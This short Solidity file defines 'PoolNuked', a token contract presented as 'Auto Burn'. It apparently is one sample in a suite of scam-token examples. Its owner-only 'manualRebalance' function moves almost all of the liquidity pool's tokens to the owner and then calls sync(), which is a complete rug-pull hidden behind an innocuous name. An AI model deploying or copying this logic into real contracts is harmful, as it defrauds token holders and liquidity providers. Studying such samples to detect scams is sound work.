// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {Owned} from "./Owned.sol";
import {SuiteToken} from "./SuiteToken.sol";

interface Pool {
    function sync() external;
}

/// The owner takes the pool's own tokens out and makes the pool believe that it was so for ever.
contract PoolNuked is SuiteToken, Owned {
    Pool private immutable _pool;

    constructor(address pair) SuiteToken("Auto Burn", "AUTO") {
        _pool = Pool(pair);
    }

    function manualRebalance() external onlyOwner {
        _move(address(_pool), msg.sender, (_balances[address(_pool)] * 9_999) / 10_000);
        _pool.sync();
    }
}
